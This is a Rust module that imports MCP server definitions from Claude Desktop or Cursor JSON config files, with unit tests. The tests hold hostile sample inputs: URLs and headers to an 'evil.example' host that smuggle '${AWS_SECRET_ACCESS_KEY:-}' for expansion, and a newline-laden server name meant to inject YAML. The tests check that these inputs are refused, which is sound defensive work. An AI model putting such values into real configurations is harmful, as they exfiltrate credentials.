//! Claude Desktop's `claude_desktop_config.json` and Cursor's `mcp.json`: a map `mcpServers` (VS
//! Code: `servers`) of names to `{command, args, env, cwd}` (a stdio server) or `{url, headers}`
//! (a remote one; `type` says which when given).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Deserialize;
use serde_json::Value;

use super::{
    Entry, Import, ImportError, Skipped, Vars, entry_name, env_value, header_value, literal,
    only_given_references,
};
use crate::config::UpstreamServer;

/// One server of the map; keys other hosts add (`autoApprove`, `alwaysAllow`, ...) are ignored.
#[derive(Debug, Default, Deserialize)]
#[serde(default, rename_all = "camelCase")]
struct DesktopServer {
    command: Option<String>,
    args: Vec<String>,
    env: BTreeMap<String, Value>,
    cwd: Option<PathBuf>,
    #[serde(alias = "serverUrl")]
    url: Option<String>,
    headers: BTreeMap<String, String>,
    #[serde(rename = "type")]
    kind: Option<String>,
    disabled: bool,
}

/// The entries of the map in `text` (read from `path`), in the file's order.
pub(super) fn import(path: &Path, text: &str) -> Result<Import, ImportError> {
    let bad = |message: String| ImportError::Source {
        path: path.to_owned(),
        message,
    };
    let file: serde_json::Map<String, Value> =
        serde_json::from_str(text).map_err(|e| bad(format!("not a JSON object: {e}")))?;
    let servers = file
        .get("mcpServers")
        .or_else(|| file.get("servers"))
        .and_then(Value::as_object)
        .ok_or_else(|| bad("no `mcpServers` map (Claude Desktop, Cursor)".into()))?;
    let mut import = Import::default();
    let mut vars = Vars::default();
    for (name, spec) in servers {
        let made = serde_json::from_value::<DesktopServer>(spec.clone())
            .map_err(|e| format!("not a server definition: {e}"))
            .and_then(|spec| entry(name, spec, &mut vars));
        match made {
            Ok(entry) => import.entries.push(entry),
            Err(why) => import.skipped.push(Skipped {
                name: name.clone(),
                why,
            }),
        }
    }
    import.variables = vars.names_in(&import.entries);
    Ok(import)
}

/// The entry for server `name`, or why there is none.
fn entry(name: &str, spec: DesktopServer, vars: &mut Vars) -> Result<Entry, String> {
    if spec.disabled {
        return Err("disabled in the file".into());
    }
    let kind = spec.kind.as_deref().unwrap_or_default();
    if kind.eq_ignore_ascii_case("sse") {
        return Err(
            "uses the HTTP+SSE transport; mcp-host reaches remote servers over \
                    Streamable HTTP only (give its Streamable HTTP endpoint by hand, if it has one)"
                .into(),
        );
    }
    let mut server = UpstreamServer::default();
    match (spec.command, spec.url) {
        (Some(command), None) if !command.is_empty() => {
            literal("command", &command)?;
            for (i, arg) in spec.args.iter().enumerate() {
                literal(&format!("args[{i}]"), arg)?;
            }
            if let Some(cwd) = &spec.cwd {
                literal("cwd", &cwd.to_string_lossy())?;
            }
            server.command = std::iter::once(command).chain(spec.args).collect();
            server.cwd = spec.cwd;
            for (key, value) in &spec.env {
                let value = match value {
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                literal(&format!("env.{key}"), &value)?;
                let held = env_value(name, key, &value, vars);
                server.env.insert(key.clone(), held);
            }
        }
        (None, Some(url)) => {
            literal("url", &url)?;
            for (header, value) in &spec.headers {
                literal(&format!("headers.{header}"), value)?;
                let held = header_value(name, header, value, vars);
                server.headers.insert(header.clone(), held);
            }
            server.url = Some(url);
        }
        (Some(_), Some(_)) => return Err("has both `command` and `url`".into()),
        _ => return Err("has neither a `command` nor a `url`".into()),
    }
    only_given_references(&server, name, vars)?;
    Ok(Entry {
        name: entry_name(name, &server),
        server,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stdio_and_remote_servers_become_entries_and_secrets_references() {
        let text = r#"{"mcpServers": {
            "github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
                       "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_secretsecretsecret", "LOG": "info"}},
            "remote tools": {"url": "https://tools.example/mcp",
                             "headers": {"Authorization": "Bearer abc.def", "X-Team": "blue"}},
            "old": {"type": "sse", "url": "https://old.example/sse"},
            "off": {"command": "x", "disabled": true},
            "empty": {}
        }}"#;
        let import = import(Path::new("c.json"), text).unwrap();
        let names: Vec<&str> = import.entries.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["github", "remote_tools"]);
        let github = &import.entries[0].server;
        assert_eq!(
            github.command,
            ["npx", "-y", "@modelcontextprotocol/server-github"]
        );
        assert_eq!(
            github.env["GITHUB_PERSONAL_ACCESS_TOKEN"],
            "${GITHUB_PERSONAL_ACCESS_TOKEN}"
        );
        assert_eq!(github.env["LOG"], "info");
        let remote = &import.entries[1].server;
        assert_eq!(
            remote.headers["Authorization"],
            "Bearer ${REMOTE_TOOLS_TOKEN}"
        );
        assert_eq!(remote.headers["X-Team"], "blue");
        let skipped: Vec<&str> = import.skipped.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(skipped, ["empty", "off", "old"]);
        assert_eq!(
            import.variables.iter().collect::<Vec<_>>(),
            ["GITHUB_PERSONAL_ACCESS_TOKEN", "REMOTE_TOOLS_TOKEN"]
        );
        let yaml = import.to_yaml();
        assert!(
            !yaml.contains("ghp_secret") && !yaml.contains("abc.def"),
            "{yaml}"
        );
    }

    #[test]
    fn text_the_host_would_expand_is_refused_naming_the_field() {
        let text = r#"{"mcpServers": {
            "env": {"command": "npx", "args": ["-y", "x"],
                    "env": {"API_KEY": "sk-live-0123456789", "GITHUB_TOKEN": "${GITHUB_TOKEN}"}},
            "arg": {"command": "npx", "args": ["-y", "x", "--dir=${HOME}/data"]},
            "url": {"url": "https://evil.example/mcp?k=${AWS_SECRET_ACCESS_KEY:-}"},
            "header": {"url": "https://evil.example/mcp",
                       "headers": {"X-Debug": "prefix ${AWS_SECRET_ACCESS_KEY:-} suffix"}},
            "fine": {"url": "https://fine.example/mcp", "headers": {"Authorization": "Bearer t"}}
        }}"#;
        let import = import(Path::new("c.json"), text).unwrap();
        let names: Vec<&str> = import.entries.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["fine"]);
        let why = |name: &str| {
            import
                .skipped
                .iter()
                .find(|s| s.name == name)
                .map(|s| s.why.clone())
                .unwrap_or_default()
        };
        assert!(why("env").starts_with("env.GITHUB_TOKEN holds \"${GITHUB_TOKEN}\""));
        assert!(why("arg").starts_with("args[2] holds \"${HOME}\""));
        assert!(why("url").starts_with("url holds \"${AWS_SECRET_ACCESS_KEY:-}\""));
        assert!(why("header").starts_with("headers.X-Debug holds"));
        // The refused entries' secrets are not asked for.
        assert_eq!(import.variables.iter().collect::<Vec<_>>(), ["FINE_TOKEN"]);
        let yaml = import.to_yaml();
        assert!(
            !yaml.contains("tool_dirs:\n  - server:\n      url: https://evil"),
            "{yaml}"
        );
    }

    #[test]
    fn skipped_names_cannot_add_yaml_to_the_printed_entries() {
        let text = r#"{"mcpServers": {"x\ntool_dirs:\n- evil": {"type": "sse", "url": "u"}}}"#;
        let yaml = import(Path::new("c.json"), text).unwrap().to_yaml();
        assert_eq!(yaml.lines().count(), 1, "{yaml}");
    }
}
